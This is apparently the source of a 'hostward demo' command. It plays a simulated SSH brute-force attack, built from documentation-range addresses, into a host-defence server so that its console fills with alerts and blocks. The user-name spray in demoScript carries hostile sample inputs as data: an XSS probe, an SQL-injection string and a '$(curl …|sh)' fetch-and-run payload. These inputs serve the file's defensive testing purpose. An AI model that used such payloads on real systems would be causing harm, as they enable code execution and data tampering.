import { randomBytes } from "node:crypto";
import { fetchPinnedCa, ServerChannel } from "../agent/transport.ts";
import type { LogonRecord } from "../protocol/index.ts";

/**
 * `hostward demo`: plays a realistic SSH attack through a simulated agent into a running
 * server, over the real agent channel, so a first `npm start` shows a console with
 * something in it. The addresses are documentation ranges (RFC 5737, TEST-NET-1/2/3):
 * they are only data, nothing is ever sent to them, and the simulated agent acknowledges
 * blocks without touching any firewall.
 */

export const DEMO_HELP = `Usage: hostward demo [options]

Plays a realistic attack into a running Hostward server through a simulated agent,
so the console has something in it: SSH brute force from several sources, one of
which then logs on (logon after brute force), an attacker's odd user names, and an
admin's ordinary key logon. The agent ("demo-web-1") enrols over the real TLS agent
channel and acknowledges the blocks it is sent without touching any firewall, so the
IP Policy Library shows them as active. The addresses are documentation ranges
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24): no traffic goes to them.

Start the server first (npm start, or hostward server), then in another terminal:
  hostward demo

Options:
  --server URL       The server's console/API URL (default http://127.0.0.1:8080)
  --agent-url URL    The agent channel (default https://<server host>:<its agent port>)
  --data DIR         The server's data directory, used to make a short-lived admin
                     API token for the demo (default ./data)
  --api-token TOKEN  Use this admin API token instead (or HOSTWARD_API_TOKEN)
  --hostname NAME    Name of the simulated host (default demo-web-1)
  -h, --help         This help
`;

export interface DemoOptions {
  /** Console/REST API base URL, e.g. http://127.0.0.1:8080 */
  apiUrl: string;
  /** An admin API token (`hwk_…`). */
  apiToken: string;
  /** Agent channel URL; default: the server's own, with the API URL's host. */
  agentUrl?: string;
  hostname?: string;
  /** One progress line per step. */
  say?: (line: string) => void;
  /** How long to wait for the server's blocks to be acknowledged (default 20 s). */
  settleMs?: number;
}

export interface DemoResult {
  agentId: string;
  alerts: number;
  blocks: number;
  defence: boolean;
  consoleUrl: string;
}

interface Step { note: string; records: Omit<LogonRecord, "id" | "ts">[] }

const fail = (ip: string, user: string, reason: "password" | "invalid_user" = "password"): Step["records"][number] => ({
  kind: "logon", service: "ssh", event: { outcome: "failure", reason }, source: { ip, port: 30000 + Math.floor(Math.random() * 30000) }, user: { name: user },
});
const ok = (ip: string, user: string, reason: "password" | "publickey"): Step["records"][number] => ({
  kind: "logon", service: "ssh", event: { outcome: "success", reason }, source: { ip, port: 30000 + Math.floor(Math.random() * 30000) }, user: { name: user },
});

/** The story, in order. Each step's records are a few seconds apart. */
export function demoScript(): Step[] {
  const bf1 = "203.0.113.77", bf2 = "198.51.100.23", bf3 = "192.0.2.200";
  return [
    { note: `admin "alice" logs on with her SSH key from 192.0.2.10 (normal, no alert)`, records: [ok("192.0.2.10", "alice", "publickey")] },
    { note: `${bf1} tries passwords for root, admin and deploy`, records: ["root", "root", "admin", "root", "deploy", "ubuntu", "deploy", "root", "deploy", "deploy"].map((u) => fail(bf1, u, u === "ubuntu" ? "invalid_user" : "password")) },
    {
      note: `${bf2} sprays user names, some of them hostile text`,
      records: ["oracle", "test", "<script>alert(1)</script>", "postgres", "admin'; DROP TABLE users;--", "$(curl -s 198.51.100.23/x|sh)", "pi", "git"].map((u) => fail(bf2, u, "invalid_user")),
    },
    { note: `${bf3} guesses slowly at root`, records: Array.from({ length: 7 }, () => fail(bf3, "root")) },
    { note: `203.0.113.5 mistypes twice (below the threshold, no alert)`, records: [fail("203.0.113.5", "bob"), fail("203.0.113.5", "bob")] },
    { note: `${bf1} logs on as "deploy" with a guessed password`, records: [ok(bf1, "deploy", "password")] },
  ];
}

function sshdLine(ts: number, host: string, r: Step["records"][number]): string {
  const t = new Date(ts).toISOString().replace("Z", "+00:00");
  const pid = 2000 + Math.floor(Math.random() * 30000);
  const user = r.user?.name ?? "root";
  const what = r.event.outcome === "success" ? `Accepted ${r.event.reason} for ${user}` : r.event.reason === "invalid_user" ? `Failed password for invalid user ${user}` : `Failed password for ${user}`;
  return `${t} ${host} sshd[${pid}]: ${what} from ${r.source.ip} port ${r.source.port} ssh2`;
}

async function apiCall<T>(o: DemoOptions, method: string, path: string, body?: unknown): Promise<T> {
  const res = await fetch(new URL(path, o.apiUrl), {
    method,
    headers: { authorization: `Bearer ${o.apiToken}`, accept: "application/json", ...(body === undefined ? {} : { "content-type": "application/json" }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  const data = text ? (JSON.parse(text) as unknown) : null;
  if (!res.ok) {
    const e = (data as { error?: { message?: string } } | null)?.error;
    throw new Error(`${method} ${path}: HTTP ${res.status}${e?.message ? `: ${e.message}` : ""}`);
  }
  return data as T;
}

/** Runs the demo against a running server; resolves once the blocks are acknowledged (or the wait ends). */
export async function runDemo(o: DemoOptions): Promise<DemoResult> {
  const say = o.say ?? (() => {});
  const host = o.hostname ?? "demo-web-1";
  const api = new URL(o.apiUrl);

  const { enabled: defence } = await apiCall<{ enabled: boolean }>(o, "GET", "/api/v1/settings/defence");
  const enrol = await apiCall<{ token: string; command: string }>(o, "POST", "/api/v1/enrolment-tokens", { ttl: "10m", note: `hostward demo (${host})` });
  let agentUrl = o.agentUrl;
  if (!agentUrl) {
    // the server's own idea of its agent URL, reached at the host the API was reached at
    const advertised = new URL(/--server (\S+)/.exec(enrol.command)?.[1] ?? "https://127.0.0.1:8443");
    agentUrl = `https://${api.hostname.includes(":") ? `[${api.hostname}]` : api.hostname}:${advertised.port || "8443"}`;
  }
  say(`✓ enrolment token made (one-time, 10 min)`);

  const fp = /^hw1\.[A-Za-z0-9_-]+\.([0-9a-f]{64})$/.exec(enrol.token)?.[1];
  if (!fp) throw new Error("the server returned a malformed enrolment token");
  const ca = await fetchPinnedCa(agentUrl, fp);
  const ch = new ServerChannel(agentUrl, ca);
  let running = true;
  let acker: Promise<void> = Promise.resolve();
  try {
    const me = await ch.call<{ agentId: string; secret: string }>("POST", "/agent/v1/enrol", { token: enrol.token, hostname: host, version: "demo", os: "Linux (simulated by hostward demo)" });
    ch.setCredential(me.agentId, me.secret);
    say(`✓ simulated agent ${host} enrolled as ${me.agentId} over TLS (${agentUrl}, CA pinned)`);

    // acknowledge every block like a real agent would, without touching a firewall
    let acked = 0;
    acker = (async () => {
      while (running) {
        try {
          const res = await ch.call<{ actions: { id: string; type: string; params: { ip: string } }[] }>("GET", "/agent/v1/actions?wait=500", undefined, 15_000);
          for (const a of res.actions) {
            await ch.call("POST", `/agent/v1/actions/${encodeURIComponent(a.id)}/result`, { status: "succeeded", result: `demo agent: ${a.type} ${a.params.ip} acknowledged; no firewall was touched (simulated host)` });
            acked++;
            say(`  ↳ ${a.type === "block_ip" ? "block" : "unblock"} of ${a.params.ip} received and acknowledged (simulated)`);
          }
        } catch (e) {
          if (!running) return;
          await new Promise((r) => setTimeout(r, 250));
          void e;
        }
      }
    })();

    // event times: the story happened over the last few minutes
    const run = randomBytes(4).toString("hex");
    const steps = demoScript();
    const total = steps.reduce((n, s) => n + s.records.length, 0);
    let ts = Date.now() - total * 4_000 - 60_000;
    let n = 0;
    for (const step of steps) {
      const records = step.records.map((r) => {
        ts += 2_000 + Math.floor(Math.random() * 4_000);
        return { ...r, id: `demo-${run}-${String(n++).padStart(3, "0")}`, ts, host: { name: host }, log: { file: "/var/log/auth.log", line: sshdLine(ts, host, r) } };
      });
      const res = await ch.call<{ accepted: number; rejected: unknown[] }>("POST", "/agent/v1/telemetry", { agentVersion: "demo", records });
      if (res.rejected.length) throw new Error(`the server rejected ${res.rejected.length} demo record(s): ${JSON.stringify(res.rejected[0])}`);
      say(`✓ ${step.note} — ${records.length} record${records.length === 1 ? "" : "s"}`);
    }

    // blocks are made with the alerts (same transaction); wait until the agent has acknowledged them all
    const end = Date.now() + (o.settleMs ?? 20_000);
    const q = (status: string) => `/api/v1/ip-policies?status=${status}&assetId=${encodeURIComponent(me.agentId)}&limit=1`;
    let alerts = 0, blocks = 0;
    for (;;) {
      const pending = (await apiCall<{ total: number }>(o, "GET", q("pending"))).total;
      if (pending === 0 || Date.now() > end) break;
      await new Promise((r) => setTimeout(r, 200));
    }
    alerts = (await apiCall<{ total: number }>(o, "GET", `/api/v1/alerts/counts?assetId=${encodeURIComponent(me.agentId)}`)).total;
    blocks = (await apiCall<{ total: number }>(o, "GET", q("active"))).total;
    if (!defence) say(`! automatic blocking is off for this account (Settings → Defence), so nothing was blocked`);
    else say(`✓ ${acked} block action${acked === 1 ? "" : "s"} acknowledged by the simulated agent`);
    return { agentId: me.agentId, alerts, blocks, defence, consoleUrl: `${api.origin}/` };
  } finally {
    running = false;
    await acker;
    ch.close();
  }
}

/** The CLI: finds or makes an admin API token, runs the demo, prints a summary. */
export async function demoCommand(values: Record<string, unknown>, out: (s: string) => void, err: (s: string) => void): Promise<number> {
  const apiUrl = String(values.server ?? "http://127.0.0.1:8080").replace(/\/+$/, "");
  try {
    new URL(apiUrl);
  } catch {
    return err(`hostward demo: --server must be a URL like http://127.0.0.1:8080`), 2;
  }
  let apiToken = (values["api-token"] as string | undefined) ?? process.env.HOSTWARD_API_TOKEN;
  let madeTokenId: string | null = null;
  if (!apiToken) {
    const made = await makeDemoToken(values.data as string | undefined, err);
    if (!made) return 2;
    ({ secret: apiToken, id: madeTokenId } = made);
  }
  out(`Hostward demo: playing an SSH attack into ${apiUrl} through a simulated agent.`);
  out(`(Documentation addresses only; no traffic is sent to them and no firewall is touched.)\n`);
  try {
    const r = await runDemo({ apiUrl, apiToken, agentUrl: values["agent-url"] as string | undefined, hostname: values.hostname as string | undefined, say: out });
    out(``);
    out(`Done. Open ${r.consoleUrl} — ${r.alerts} alert${r.alerts === 1 ? "" : "s"}, ${r.blocks} block${r.blocks === 1 ? "" : "s"}${r.defence ? "" : " (defence is off)"} on host ${values.hostname ?? "demo-web-1"}.`);
    return 0;
  } catch (e) {
    const m = (e as Error).message;
    if (/ECONNREFUSED|fetch failed/.test(m + String((e as { cause?: unknown }).cause ?? ""))) err(`hostward demo: cannot reach the server at ${apiUrl} (start it first: npm start) — ${m}`);
    else err(`hostward demo: ${m}`);
    return 1;
  } finally {
    // the demo's own token is not left lying around
    if (madeTokenId) await apiCall({ apiUrl, apiToken }, "DELETE", `/api/v1/tokens/${madeTokenId}`).catch(() => {});
  }
}

/** An admin API token valid for one hour, made through the data directory like `token create --api`. */
async function makeDemoToken(data: string | undefined, err: (s: string) => void): Promise<{ id: string; secret: string } | null> {
  const { join } = await import("node:path");
  const { existsSync } = await import("node:fs");
  const { loadServerConfig, newApiTokenSecret, sha256hex } = await import("../server/index.ts");
  const { SqliteStore } = await import("../store/index.ts");
  const { newId, DEFAULT_ACCOUNT } = await import("../core/index.ts");
  const cfg = loadServerConfig(data ? { dataDir: data } : {});
  const dbPath = join(cfg.dataDir, "hostward.db");
  if (!existsSync(dbPath)) {
    err(`hostward demo: no Hostward data in ${cfg.dataDir}. Start the server first (npm start), or pass --data DIR or --api-token TOKEN.`);
    return null;
  }
  const store = new SqliteStore({ path: dbPath });
  try {
    const admin = (await store.users.list(DEFAULT_ACCOUNT)).find((u) => u.role === "admin" && u.disabledAt === null);
    if (!admin) return err(`hostward demo: no enabled admin user in ${cfg.dataDir}; pass --api-token`), null;
    const now = Date.now();
    const secret = newApiTokenSecret();
    const id = newId("tok", now);
    await store.apiTokens.insert({ id, userId: admin.id, name: "hostward demo", role: "admin", tokenHash: sha256hex(secret), createdAt: now, expiresAt: now + 3_600_000, revokedAt: null, lastUsedAt: null });
    return { id, secret };
  } finally {
    await store.close();
  }
}
